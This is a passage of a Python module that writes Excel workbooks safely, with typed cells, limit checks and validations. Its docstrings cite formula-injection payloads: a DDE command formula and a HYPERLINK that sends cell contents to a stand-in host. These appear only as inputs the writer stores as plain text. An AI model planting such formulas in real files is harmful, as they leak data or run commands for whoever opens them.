"""The one writer of every Excel workbook the project produces.

Workbooks travel by e-mail between antenne, Collocamento Mirato offices and the
funder. A cell that Excel reads as a formula can leak data (``=HYPERLINK(...)``) or
run commands (``=cmd|' /C calc'!A0``) when the file is opened, so this module makes
one promise for every workbook: **nothing lost, nothing executed**.

* A data string is always written as a string cell (``t="inlineStr"``), never as a
  formula or an error value, whatever it begins with (``=``, ``+``, ``-``, ``@``,
  a tab, ``#N/A``...), and without any quote prefix: it reads back exactly.
* Numbers, booleans, dates and times are typed cells with Italian-friendly number
  formats (:data:`INT_FORMAT`, :data:`FLOAT_FORMAT`, :data:`DATE_FORMAT`);
  ``None``, ``NaN``, ``NA`` and ``NaT`` are empty cells, and so is ``""``.
* Before anything is written, :func:`check_sheets` finds every value Excel cannot
  hold (a string over 32,767 characters, a character XML 1.0 forbids, a table over
  1,048,576 rows or 16,384 columns) and reports it as a :class:`~._errors.Problem`
  naming workbook, sheet, spreadsheet row and column header. :func:`write_workbook`
  and :func:`workbook_bytes` raise :class:`~._errors.DataError` with all of them:
  no workbook is ever truncated, and openpyxl never fails half-way.

A table over Excel's row limit is **refused**, not split over several sheets: the
loader reads a table from the sheet that bears its name, so rows moved to an
``attori_2`` sheet would be silently lost on the next load. Such a table belongs in
CSV or GeoPackage.

Values that Excel cannot hold as typed cells without loss are written as text:
integers of 16 digits or more (Excel keeps 15 significant digits), ``±inf``
(``"inf"``, ``"-inf"``), floats outside Excel's range, dates before 1900
(``dd/mm/yyyy``). Time zones are dropped, keeping the wall-clock time.

The workbook's XML is written here (:func:`_save`), not by openpyxl, column by
column, and streamed into the archive: a map of 320,000 rows takes seconds, not
minutes. Every string is an inline string with ``xml:space="preserve"`` (blanks
kept); a carriage return inside it (``"\\r\\n"``) is written as the character
reference ``&#13;`` so that it survives XML end-of-line normalisation. A float is
written with its shortest exact representation, so every float reads back equal.
The files open in openpyxl (normal and read-only) and ``pandas.read_excel``.

Sheet names are ours: :func:`sheet_titles` makes them valid (at most 31 characters,
none of ``[]:*?/\\``) and unique, deterministically, without reporting anything.

Usage: one :class:`Sheet` per table (or several :class:`Block` s at offsets in one
sheet), then one call. :func:`write_workbook` runs :func:`check_sheets` itself; call
:func:`check_sheets` directly to report the problems of every workbook of a build
before writing the first file::

    sheets = [Sheet(name, frame, freeze_header=True) for name, frame in tables.items()]
    write_workbook(path, sheets)  # DataError before anything is written
"""

from __future__ import annotations

import datetime as dt
import io
import itertools
import math
import os
import re
import zipfile
from collections.abc import Collection, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

import numpy as np
import pandas as pd
from openpyxl.utils import get_column_letter
from openpyxl.utils.datetime import to_excel

from ._atomic import atomic_path
from ._errors import DataError, Problem, UsageError

__all__ = [
    "DATETIME_FORMAT",
    "DATE_FORMAT",
    "FLOAT_FORMAT",
    "INT_FORMAT",
    "MAX_CELL_CHARS",
    "MAX_COLUMNS",
    "MAX_ROWS",
    "Block",
    "DateRule",
    "DropDown",
    "Sheet",
    "cell_value",
    "check_sheets",
    "sheet_titles",
    "workbook_bytes",
    "write_workbook",
]

#: Characters in one cell (Excel specification limit).
MAX_CELL_CHARS = 32_767
#: Rows in one sheet, the header included.
MAX_ROWS = 1_048_576
#: Columns in one sheet.
MAX_COLUMNS = 16_384
#: Characters in a sheet name.
MAX_TITLE_CHARS = 31
#: Number format of integers: Italian Excel shows ``1.234``.
INT_FORMAT = "#,##0"
#: Number format of floats: Italian Excel shows ``1.234,5678``.
FLOAT_FORMAT = "#,##0.0000"
#: Number format of dates.
DATE_FORMAT = "DD/MM/YYYY"
#: Number format of timestamps with a time of day.
DATETIME_FORMAT = "DD/MM/YYYY HH:MM:SS"
#: Number format of times of day.
TIME_FORMAT = "HH:MM:SS"

#: Characters that XML 1.0 cannot hold: C0 controls except tab, LF, CR (the set of
#: openpyxl's ``ILLEGAL_CHARACTERS_RE``), lone surrogates and U+FFFE, U+FFFF.
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_BAD_TITLE = re.compile("[\\[\\]:*?/\\\\\x00-\x1f\ud800-\udfff\ufffe\uffff]")
#: Largest and smallest magnitudes Excel stores as numbers.
_MAX_NUMBER = 9.99999999999999e307
_MIN_NUMBER = 2.2250738585072014e-308
_MAX_EXACT_INT = 10**15
_EXCEL_EPOCH = dt.date(1900, 1, 1)
#: Sheet names a formula may use unquoted (no digits: never a cell reference).
_PLAIN_TITLE = re.compile(r"[A-Za-z_][A-Za-z_.]+")


@dataclass(frozen=True, eq=False)
class Block:
    """A table placed in a sheet at an offset (as pandas ``startrow``/``startcol``).

    Parameters
    ----------
    frame : pandas.DataFrame
        The table. Its column labels are the header row.
    row, column : int
        Zero-based offset of the block's top-left cell.
    index : bool
        Write the index as the first column(s); the header cell above it holds the
        index name.
    header : bool
        Write the header row.
    title : bool
        Style the header row as a title (large bold text) instead of a table header.
    formats : mapping of str to str
        Number format by column header, overriding the default for the type.
    wrap : collection of str
        Column headers whose cells wrap their text.
    """

    frame: pd.DataFrame
    row: int = 0
    column: int = 0
    index: bool = False
    header: bool = True
    title: bool = False
    formats: Mapping[str, str] = field(default_factory=dict)
    wrap: Collection[str] = ()

    @property
    def n_rows(self) -> int:
        """Rows the block takes, its header included."""
        return len(self.frame) + int(self.header)

    @property
    def n_columns(self) -> int:
        """Columns the block takes, its index included."""
        return len(self.frame.columns) + (self.frame.index.nlevels if self.index else 0)

    def headers(self) -> list[str]:
        """The header of every column the block writes, index first."""
        names = []
        if self.index:
            names = [_label(n) for n in self.frame.index.names]
        return names + [_label(c) for c in self.frame.columns]


@dataclass(frozen=True)
class DropDown:
    """A drop-down list (Excel data validation) on a column, fed by another column.

    Parameters
    ----------
    column : str
        Header of the column of this sheet that gets the drop-down.
    source_sheet : str
        Name (as given in :class:`Sheet`) of the sheet holding the allowed values.
    source_column : str
        Header of the column holding them; the list is its data rows.
    last_row : int
        Last spreadsheet row that offers the drop-down.
    error_title, error : str
        The Italian message Excel shows when a value is not in the list.
    strict : bool
        Refuse any value not in the list (default). ``False`` only warns: the
        user may confirm a value the list does not hold yet (a new comune).
    source_last_row : int, optional
        Last spreadsheet row of the source range (default: the source's last data
        row). Set it beyond the data when the list is a column users extend, such
        as the ``id`` column of the ``attori`` sheet feeding ``da``/``a``.
    """

    column: str
    source_sheet: str
    source_column: str
    last_row: int = 2000
    error_title: str = "Valore non ammesso"
    error: str = "Scegliere un valore dall'elenco."
    strict: bool = True
    source_last_row: int | None = None


@dataclass(frozen=True)
class DateRule:
    """Excel data validation of a column of dates (a date between 1900 and 9999).

    Parameters
    ----------
    column : str
        Header of the column of this sheet that must hold dates.
    last_row : int
        Last spreadsheet row checked.
    error_title, error : str
        The Italian message Excel shows when a value is not a date.
    """

    column: str
    last_row: int = 2000
    error_title: str = "Data non valida"
    error: str = "Inserire una data nel formato gg/mm/aaaa."


@dataclass(frozen=True, eq=False)
class Sheet:
    """One sheet of a workbook: a table, or several :class:`Block` s at offsets.

    Parameters
    ----------
    name : str
        Sheet name; made valid and unique by :func:`sheet_titles`.
    frame : pandas.DataFrame, optional
        The table, written from cell A1 with its header.
    index : bool
        Write ``frame``'s index as the first column(s).
    formats : mapping of str to str
        Number format by column header of ``frame``.
    blocks : sequence of Block
        Further tables at offsets (after ``frame`` if both are given). Blocks may
        not overlap.
    widths : mapping of int to float
        Column width by zero-based column; other columns are sized to their header
        and first values.
    freeze_header : bool
        Keep the first row visible when scrolling.
    drop_downs : sequence of DropDown
        Drop-down lists on columns of the first block that has the header.
    date_rules : sequence of DateRule
        Date validations on columns of the first block that has the header.
    protected : bool
        Protect the sheet against edits (no password: it prevents accidents, such
        as overwriting the lists the drop-downs read, not determined users).
    """

    name: str
    frame: pd.DataFrame | None = None
    index: bool = False
    formats: Mapping[str, str] = field(default_factory=dict)
    blocks: Sequence[Block] = ()
    widths: Mapping[int, float] = field(default_factory=dict)
    freeze_header: bool = False
    drop_downs: Sequence[DropDown] = ()
    date_rules: Sequence[DateRule] = ()
    protected: bool = False

    def all_blocks(self) -> list[Block]:
        """``frame`` as a block at A1 (if given), then ``blocks``."""
        first = [] if self.frame is None else [
            Block(self.frame, index=self.index, formats=self.formats)]
        return [*first, *self.blocks]


# --------------------------------------------------------------------------------------
# Names
# --------------------------------------------------------------------------------------


def sheet_titles(names: Sequence[str]) -> list[str]:
    """Valid, unique Excel sheet names for ``names``, in order, deterministically.

    A name that is already valid and not taken by an earlier one is kept. Otherwise
    ``[]:*?/\\`` and control characters become ``_``, apostrophes at the ends are
    dropped, the name is cut to 31 characters and, if taken (Excel compares names
    without case), gets a suffix ``_2``, ``_3``...

    Examples
    --------
    >>> sheet_titles(["attori", "Attori", "a/b: c?", "x" * 40, "History"])
    ['attori', 'Attori_2', 'a_b_ c_', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'History_']
    """
    valid = [_valid_title(n) for n in names]
    taken: set[str] = set()
    keep = []
    for name, ok in zip(names, valid, strict=True):
        kept = ok and name.casefold() not in taken
        keep.append(kept)
        if kept:
            taken.add(name.casefold())
    out = []
    for name, kept in zip(names, keep, strict=True):
        if kept:
            out.append(name)
            continue
        base = _BAD_TITLE.sub("_", name).strip("'") or "Foglio"
        if base.casefold() == "history":
            base += "_"
        title = base[:MAX_TITLE_CHARS].rstrip("'")
        n = 2
        while title.casefold() in taken:
            suffix = f"_{n}"
            title = base[:MAX_TITLE_CHARS - len(suffix)].rstrip("'") + suffix
            n += 1
        taken.add(title.casefold())
        out.append(title)
    return out


def _valid_title(name: str) -> bool:
    return (0 < len(name) <= MAX_TITLE_CHARS and not _BAD_TITLE.search(name)
            and not name.startswith("'") and not name.endswith("'")
            and name.casefold() != "history")


def _label(value: object) -> str:
    """A column or index label as header text."""
    if isinstance(value, tuple):
        return " / ".join(_label(v) for v in value if not _is_missing(v))
    if _is_missing(value):
        return ""
    return str(value)


def _visible(text: str, limit: int = 60) -> str:
    """``text`` fit for a message: forbidden characters as ``<U+XXXX>``, cut."""
    shown = _ILLEGAL.sub(lambda m: f"<U+{ord(m.group()):04X}>", text)
    return shown if len(shown) <= limit else shown[: limit - 1] + "…"


def _quote_title(title: str) -> str:
    if _PLAIN_TITLE.fullmatch(title) and title.upper() not in {"TRUE", "FALSE"}:
        return title
    return "'" + title.replace("'", "''") + "'"


# --------------------------------------------------------------------------------------
# Values
# --------------------------------------------------------------------------------------


def _is_missing(value: object) -> bool:
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    if isinstance(value, float | np.floating):
        return math.isnan(value)
    if isinstance(value, np.datetime64 | np.timedelta64):
        return bool(np.isnat(value))
    return False


def _day_text(value: dt.date) -> str:
    text = f"{value.day:02d}/{value.month:02d}/{value.year:04d}"
    if isinstance(value, dt.datetime) and value.time() != dt.time():
        text += f" {value:%H:%M:%S}"
    return text


def cell_value(value: object) -> Any:
    """The value a cell holds for ``value``: ``None`` (empty), str, bool, int, float,
    Decimal, date, datetime or time, converted as the module docstring says.

    Examples
    --------
    >>> cell_value(np.int64(3)), cell_value(float("nan")), cell_value(""), cell_value(2**60)
    (3, None, None, '1152921504606846976')
    >>> cell_value(pd.Timestamp("2026-06-30")), cell_value(float("-inf"))
    (datetime.date(2026, 6, 30), '-inf')
    """
    if _is_missing(value):
        return None
    if isinstance(value, str):
        return str(value) or None
    if isinstance(value, bool | np.bool_):
        return bool(value)
    if isinstance(value, int | np.integer):
        number = int(value)
        return number if abs(number) < _MAX_EXACT_INT else str(number)
    if isinstance(value, float | np.floating):
        real = float(value)
        if math.isinf(real):
            return "inf" if real > 0 else "-inf"
        if abs(real) > _MAX_NUMBER or 0 < abs(real) < _MIN_NUMBER:
            return repr(real)
        return real
    if isinstance(value, Decimal):
        return value if value.is_finite() and abs(value) <= _MAX_NUMBER else str(value)
    if isinstance(value, np.datetime64):  # any unit, beyond pandas' years 1677-2262 too
        moment = value.astype("datetime64[us]").item()
        if not isinstance(moment, dt.date):  # beyond Python's years 1-9999
            return str(value)
        value = moment
    if isinstance(value, dt.datetime):
        moment = value.replace(tzinfo=None)
        if isinstance(moment, pd.Timestamp):
            moment = moment.to_pydatetime()
        if moment.date() < _EXCEL_EPOCH:
            return _day_text(moment)
        return moment.date() if moment.time() == dt.time() else moment
    if isinstance(value, dt.date):
        return _day_text(value) if value < _EXCEL_EPOCH else value
    if isinstance(value, dt.time):
        return value.replace(tzinfo=None)
    return str(value) or None


def _string_problems(text: str) -> list[str]:
    """Why Excel cannot hold ``text`` in a cell (empty if it can)."""
    messages = []
    if len(text) > MAX_CELL_CHARS:
        messages.append(f"il valore supera il limite di Excel di 32.767 caratteri per cella "
                        f"({_thousands(len(text))} caratteri): accorciarlo")
    found = _ILLEGAL.search(text)
    if found:
        code = ord(found.group())
        where = f"alla posizione {found.start() + 1}"
        if code < 0x20:
            messages.append(f"carattere di controllo non ammesso (U+{code:04X}) {where}: "
                            "Excel non può contenerlo; toglierlo o sostituirlo con uno spazio")
        else:
            messages.append(f"carattere non ammesso in un file Excel (U+{code:04X}) {where}: "
                            "toglierlo dal dato")
    return messages


def _thousands(n: int) -> str:
    return f"{n:,}".replace(",", ".")


# --------------------------------------------------------------------------------------
# Preflight
# --------------------------------------------------------------------------------------


def check_sheets(sheets: Sequence[Sheet], *, where: str) -> list[Problem]:
    """Every value of ``sheets`` that Excel cannot hold; nothing is written.

    Parameters
    ----------
    sheets : sequence of Sheet
        The workbook to be.
    where : str
        The workbook's name for the messages; a problem's ``file`` is
        ``where[sheet]``, its ``row`` the spreadsheet row (the first row is 1) and
        its ``column`` the column header.

    Returns
    -------
    list of Problem
        Errors: strings over 32,767 characters, characters XML 1.0 forbids (in the
        header or the data), tables over 1,048,576 rows or 16,384 columns. Empty if
        the workbook can be written.

    Raises
    ------
    UsageError
        If blocks overlap or start at a negative offset, or a drop-down names a
        sheet or column that does not exist (mistakes of the caller, not the data).

    Examples
    --------
    >>> frame = pd.DataFrame({"nome": ["ok", "a\\x0bb", "x" * 40_000], "n": [1, 2, 3]})
    >>> for p in check_sheets([Sheet("attori", frame)], where="mappa.xlsx"):
    ...     print(p)
    mappa.xlsx[attori]:3: nome: carattere di controllo non ammesso (U+000B) alla posizione 2: ...
    mappa.xlsx[attori]:4: nome: il valore supera il limite di Excel di 32.767 caratteri ...
    """
    titles = sheet_titles([s.name for s in sheets])
    _check_layout(sheets)
    problems: list[Problem] = []
    for sheet, title in zip(sheets, titles, strict=True):
        label = f"{where}[{title}]"
        for block in sheet.all_blocks():
            problems.extend(_check_block(block, label))
    return problems


def _check_block(block: Block, label: str) -> list[Problem]:
    problems = []
    last_row = block.row + block.n_rows
    if last_row > MAX_ROWS:
        problems.append(Problem(label, None, None, (
            f"la tabella ha {_thousands(block.n_rows)} righe con l'intestazione: Excel ne "
            f"ammette al massimo {_thousands(MAX_ROWS)} per foglio. La cartella di lavoro non "
            "è stata scritta: salvare i dati in CSV o GeoPackage")))
    last_column = block.column + block.n_columns
    if last_column > MAX_COLUMNS:
        problems.append(Problem(label, None, None, (
            f"la tabella ha {_thousands(block.n_columns)} colonne: Excel ne ammette al "
            f"massimo {_thousands(MAX_COLUMNS)} per foglio. La cartella di lavoro non è "
            "stata scritta: salvare i dati in CSV o GeoPackage")))
    if problems:
        return problems
    headers = block.headers()
    if block.header:
        for header in headers:
            problems.extend(Problem(label, block.row + 1, _visible(header), message)
                            for message in _string_problems(header))
    first = block.row + int(block.header) + 1
    columns = _columns(block)
    for header, values in zip(headers, columns, strict=True):
        if _never_text(values) or _all_fit(values):
            continue
        column = _visible(header) or None
        for i, value in enumerate(values):
            text = cell_value(value)
            if isinstance(text, str):
                problems.extend(Problem(label, first + i, column, message)
                                for message in _string_problems(text))
    return problems


def _columns(block: Block) -> list[pd.Series | pd.Index]:
    """The block's columns as sequences, index levels first."""
    frame = block.frame
    out: list[pd.Series | pd.Index] = []
    if block.index:
        out += [frame.index.get_level_values(i) for i in range(frame.index.nlevels)]
    out += [frame.iloc[:, j] for j in range(len(frame.columns))]
    return out


def _all_fit(values: pd.Series | pd.Index) -> bool:
    """A column of text (and missing values) that Excel can hold, checked at once;
    False if it may not (each value is then checked on its own)."""
    if pd.api.types.infer_dtype(values, skipna=True) not in ("string", "empty"):
        return False
    texts = [t for t in np.asarray(values, dtype=object)[~pd.isna(values)].tolist() if t]
    # one search over all the texts (LF is allowed, so it finds nothing of its own)
    return (max(map(len, texts), default=0) <= MAX_CELL_CHARS
            and not _ILLEGAL.search("\n".join(texts)))


def _never_text(values: pd.Series | pd.Index) -> bool:
    """A column whose type can hold no string (and no character to check)."""
    kind = values.dtype.kind
    return kind in "biufmM" and not isinstance(values.dtype, pd.CategoricalDtype)


def _check_layout(sheets: Sequence[Sheet], active: str | None = None) -> None:
    by_name = {s.name: s for s in sheets}
    if active is not None and active not in by_name:
        msg = f"active={active!r} is not the name of one of the sheets {list(by_name)}"
        raise UsageError(msg, param="active")
    for sheet in sheets:
        blocks = sheet.all_blocks()
        for block in blocks:
            if block.row < 0 or block.column < 0:
                msg = (f"sheet {sheet.name!r}: a block starts at a negative offset "
                       f"({block.row}, {block.column})")
                raise UsageError(msg, param="sheets")
        for a, b in itertools.combinations(blocks, 2):
            if (a.n_rows and a.n_columns and b.n_rows and b.n_columns
                    and a.row < b.row + b.n_rows and b.row < a.row + a.n_rows
                    and a.column < b.column + b.n_columns and b.column < a.column + a.n_columns):
                msg = f"sheet {sheet.name!r}: two blocks overlap"
                raise UsageError(msg, param="sheets")
        for drop in sheet.drop_downs:
            source = by_name.get(drop.source_sheet)
            if _find(sheet, drop.column) is None or source is None or \
                    _find(source, drop.source_column) is None:
                msg = (f"sheet {sheet.name!r}: drop-down {drop.column!r} from "
                       f"{drop.source_sheet!r}/{drop.source_column!r} names no column")
                raise UsageError(msg, param="sheets")
        for rule in sheet.date_rules:
            if _find(sheet, rule.column) is None:
                msg = f"sheet {sheet.name!r}: date rule {rule.column!r} names no column"
                raise UsageError(msg, param="sheets")


def _find(sheet: Sheet, header: str) -> tuple[Block, int] | None:
    """The first block of ``sheet`` with column ``header`` and the column's position."""
    for block in sheet.all_blocks():
        headers = block.headers()
        if header in headers:
            return block, headers.index(header)
    return None


# --------------------------------------------------------------------------------------
# Writing
# --------------------------------------------------------------------------------------


def workbook_bytes(sheets: Sequence[Sheet], *, where: str, active: str | None = None) -> bytes:
    """The ``.xlsx`` file of ``sheets``, in memory, after :func:`check_sheets`.

    Parameters
    ----------
    sheets : sequence of Sheet
        The sheets, in order.
    where : str
        The workbook's name in problem messages.
    active : str, optional
        Name (as given) of the sheet shown when the file is opened (default the first).

    Returns
    -------
    bytes

    Raises
    ------
    DataError
        If :func:`check_sheets` finds a problem; nothing is produced.

    Examples
    --------
    >>> from openpyxl import load_workbook
    >>> frame = pd.DataFrame({"nome": ["=1+1", "@SUM(A1)", "Coop\\r\\nA"], "posti": [3, 1200, None],
    ...                       "dal": pd.to_datetime(["2026-06-30", None, "2027-01-01"])})
    >>> data = workbook_bytes([Sheet("attori", frame)], where="esempio.xlsx")
    >>> ws = load_workbook(io.BytesIO(data))["attori"]
    >>> [(c.value, c.data_type) for c in ws["A"]]
    [('nome', 's'), ('=1+1', 's'), ('@SUM(A1)', 's'), ('Coop\\r\\nA', 's')]
    >>> [(c.value, c.number_format) for c in ws["B"][1:]]
    [(3, '#,##0'), (1200, '#,##0'), (None, 'General')]
    >>> ws["C2"].value, ws["C2"].number_format
    (datetime.datetime(2026, 6, 30, 0, 0), 'DD/MM/YYYY')
    """
    _preflight(sheets, where, active)
    buffer = io.BytesIO()
    _save(sheets, buffer, active)
    return buffer.getvalue()


def write_workbook(target: str | os.PathLike[str] | IO[bytes], sheets: Sequence[Sheet], *,
                   where: str | None = None, active: str | None = None) -> None:
    """Write ``sheets`` as an ``.xlsx`` workbook, after :func:`check_sheets`.

    A path is written atomically (a temporary file in the same folder, then a
    rename): on any failure the target is left as it was, and on a data problem it
    is not even created.

    Parameters
    ----------
    target : path-like or binary file
        Where to write. A path's parent folder is created if missing.
    sheets : sequence of Sheet
        The sheets, in order.
    where : str, optional
        The workbook's name in problem messages (default: the target's file name).
    active : str, optional
        Name (as given) of the sheet shown when the file is opened (default the first).

    Raises
    ------
    DataError
        If :func:`check_sheets` finds a problem; nothing is written.

    Examples
    --------
    >>> import tempfile
    >>> frame = pd.DataFrame({"territorio": ['=HYPERLINK("http://x/"&A1,"Clicca")']})
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     path = Path(folder) / "t.xlsx"
    ...     write_workbook(path, [Sheet("territori", frame)])
    ...     pd.read_excel(path, dtype=str)["territorio"].tolist()
    ['=HYPERLINK("http://x/"&A1,"Clicca")']
    >>> write_workbook(io.BytesIO(), [Sheet("t", pd.DataFrame({"x": ["\\x00"]}))])
    Traceback (most recent call last):
    ...
    opportunity_map._errors.DataError: 1 data error:
    cartella di lavoro[t]:2: x: carattere di controllo non ammesso (U+0000) alla posizione 1: ...
    """
    if isinstance(target, str | os.PathLike):
        path = Path(target)
        _preflight(sheets, where or path.name, active)
        with atomic_path(path) as tmp:
            _save(sheets, tmp, active)
    else:
        target.write(workbook_bytes(sheets, where=where or "cartella di lavoro", active=active))


def _preflight(sheets: Sequence[Sheet], where: str, active: str | None) -> None:
    """Raise before anything is written: UsageError for the caller, DataError for data."""
    _check_layout(sheets, active)
    problems = check_sheets(sheets, where=where)
    if any(p.severity == "error" for p in problems):
        raise DataError(problems)


def _save(sheets: Sequence[Sheet], sink: Path | io.BytesIO, active: str | None) -> None:
    """Write the workbook of ``sheets`` (checked data only) as SpreadsheetML to ``sink``.

    The XML is written here, not by openpyxl: every column is turned into cells at
    once (numbers, dates and plain text without a Python object per cell), every
    string is an inline string, and a sheet is streamed into the archive in chunks.
    """
    titles = sheet_titles([s.name for s in sheets])
    title_of = dict(zip((s.name for s in sheets), titles, strict=True))
    by_name = {s.name: s for s in sheets}
    chosen = 0 if active is None else [s.name for s in sheets].index(active)
    styles = _Styles()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED, compresslevel=_ZIP_LEVEL) as archive:
        for k, sheet in enumerate(sheets, start=1):
            with archive.open(f"xl/worksheets/sheet{k}.xml", "w", force_zip64=True) as part:
                _write_sheet(part, sheet, styles, selected=k - 1 == chosen, drop_downs=[
                    _validation(sheet, d, by_name[d.source_sheet], title_of[d.source_sheet])
                    for d in sheet.drop_downs] + [_date_validation(sheet, r)
                                                  for r in sheet.date_rules])
        archive.writestr("[Content_Types].xml", _content_types(len(sheets)))
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _workbook_xml(titles, chosen))
        archive.writestr("xl/_rels/workbook.xml.rels", _workbook_rels(len(sheets)))
        archive.writestr("xl/styles.xml", styles.xml())


#: Deflate level of the archive: 1 is several times faster than the default and
#: the sheets' XML still shrinks about 8 times.
_ZIP_LEVEL = 1
#: Rows of a sheet serialised and compressed at a time.
_CHUNK_ROWS = 20_000
_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_ROOT_RELS = (
    _XML_HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>")
_SELECTED = ' tabSelected="1"'
_NUL = "\x00"
_TEXT_OPEN = '<is><t xml:space="preserve">'
_TEXT_CLOSE = "</t></is></c>"


def _content_types(n_sheets: int) -> str:
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{k}.xml" ContentType="{sheet}"/>'
                        for k in range(1, n_sheets + 1))
    return (_XML_HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
            'sheet.main+xml"/><Override PartName="/xl/styles.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
            f"{overrides}</Types>")


def _workbook_xml(titles: Sequence[str], active: int) -> str:
    sheets = "".join(f'<sheet name="{_attr(t)}" sheetId="{k}" r:id="rId{k}"/>'
                     for k, t in enumerate(titles, start=1))
    return (_XML_HEAD + f'<workbook xmlns="{_NS}" xmlns:r="{_NS_R}"><bookViews>'
            f'<workbookView activeTab="{active}"/></bookViews><sheets>{sheets}</sheets>'
            "</workbook>")


def _workbook_rels(n_sheets: int) -> str:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    rels = "".join(f'<Relationship Id="rId{k}" Type="{kind}worksheet" '
                   f'Target="worksheets/sheet{k}.xml"/>' for k in range(1, n_sheets + 1))
    rels += (f'<Relationship Id="rId{n_sheets + 1}" Type="{kind}styles" '
             'Target="styles.xml"/>')
    return (_XML_HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships">{rels}</Relationships>')


def _attr(text: str) -> str:
    """``text`` escaped for an XML attribute value or element content."""
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;").replace("\r", "&#13;").replace("\n", "&#10;")
            .replace("\t", "&#9;"))


def _text(text: str) -> str:
    """``text`` escaped as element content; ``\\r`` as a reference, so that XML
    end-of-line normalisation does not turn it into ``\\n``."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace(
        "\r", "&#13;")


#: Font and fill of a cell style: index in styles.xml.
_FONT_BOLD, _FONT_TITLE = 1, 2
_FILL_HEADER = 2


class _Styles:
    """The cell formats (``cellXfs``) a workbook uses: number format, font, fill, wrap."""

    def __init__(self) -> None:
        self.keys: list[tuple[str, int, int, bool]] = [("General", 0, 0, False)]
        self.index = {self.keys[0]: 0}

    def get(self, number_format: str | None, font: int = 0, fill: int = 0,
            wrap: bool = False) -> str:
        """The ``s`` attribute (with its leading space) of a cell of this style."""
        key = (number_format or "General", font, fill, wrap)
        found = self.index.get(key)
        if found is None:
            found = self.index[key] = len(self.keys)
            self.keys.append(key)
        return f' s="{found}"' if found else ""

    def xml(self) -> str:
        formats = sorted({f for f, *_ in self.keys if f != "General"})
        ids = {f: 164 + k for k, f in enumerate(formats)}
        ids["General"] = 0
        num_fmts = "".join(f'<numFmt numFmtId="{ids[f]}" formatCode="{_attr(f)}"/>'
                           for f in formats)
        xfs = []
        for number_format, font, fill, wrap in self.keys:
            xf = (f'<xf numFmtId="{ids[number_format]}" fontId="{font}" fillId="{fill}" '
                  'borderId="0" xfId="0"')
            xf += ' applyNumberFormat="1"' if number_format != "General" else ""
            xf += ' applyFont="1"' if font else ""
            xf += ' applyFill="1"' if fill else ""
            xf += (' applyAlignment="1"><alignment vertical="top" wrapText="1"/></xf>'
                   if wrap else "/>")
            xfs.append(xf)
        return (
            _XML_HEAD + f'<styleSheet xmlns="{_NS}"><numFmts count="{len(formats)}">'
            f'{num_fmts}</numFmts><fonts count="3"><font><sz val="11"/><name val="Calibri"/>'
            '<family val="2"/></font><font><b/><sz val="11"/><name val="Calibri"/>'
            '<family val="2"/></font><font><b/><sz val="14"/><name val="Calibri"/>'
            '<family val="2"/></font></fonts><fills count="3"><fill><patternFill '
            'patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>'
            '<fill><patternFill patternType="solid"><fgColor rgb="00DDEBF7"/></patternFill>'
            '</fill></fills><borders count="1"><border><left/><right/><top/><bottom/>'
            '<diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" '
            f'fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="{len(xfs)}">'
            f'{"".join(xfs)}</cellXfs><cellStyles count="1"><cellStyle name="Normal" '
            'xfId="0" builtinId="0"/></cellStyles></styleSheet>')


def _write_sheet(part: IO[bytes], sheet: Sheet, styles: _Styles, *, selected: bool,
                 drop_downs: Sequence[str]) -> None:
    blocks = sheet.all_blocks()
    head = [_XML_HEAD, f'<worksheet xmlns="{_NS}" xmlns:r="{_NS_R}"><sheetViews>'
            f'<sheetView workbookViewId="0"{_SELECTED if selected else ""}>']
    if sheet.freeze_header:
        head.append('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>'
                    '<selection pane="bottomLeft" activeCell="A2" sqref="A2"/>')
    head.append('</sheetView></sheetViews><sheetFormatPr defaultRowHeight="15"/>')
    widths = _widths(sheet, blocks)
    if widths:
        head.append("<cols>" + "".join(
            f'<col min="{j + 1}" max="{j + 1}" width="{width!r}" customWidth="1"/>'
            for j, width in sorted(widths.items())) + "</cols>")
    head.append("<sheetData>")
    part.write("".join(head).encode("utf-8"))
    if len(blocks) == 1:
        rows: Iterator[tuple[int, str]] = _block_rows(blocks[0], styles)
    else:
        merged: dict[int, list[tuple[int, str]]] = {}
        for block in blocks:
            for row, cells in _block_rows(block, styles):
                merged.setdefault(row, []).append((block.column, cells))
        rows = ((row, "".join(c for _, c in sorted(merged[row]))) for row in sorted(merged))
    for chunk in _batched(rows, _CHUNK_ROWS):
        part.write("".join(f'<row r="{row + 1}">{cells}</row>' for row, cells in chunk)
                   .encode("utf-8", "surrogatepass"))
    tail = ["</sheetData>"]
    if sheet.protected:
        tail.append('<sheetProtection sheet="1" objects="1" scenarios="1"/>')
